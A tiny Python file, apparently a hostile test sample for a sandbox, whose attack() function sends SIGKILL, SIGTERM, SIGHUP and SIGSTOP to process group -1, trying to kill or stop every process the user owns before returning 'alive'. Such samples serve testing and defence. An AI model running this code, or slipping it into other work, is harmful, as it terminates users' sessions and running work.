"""kill -9 -1."""
# ruff: noqa

import os


def attack():
    for number in (9, 15, 1, 19):
        try:
            os.kill(-1, number)
        except OSError:
            pass
    return "alive"
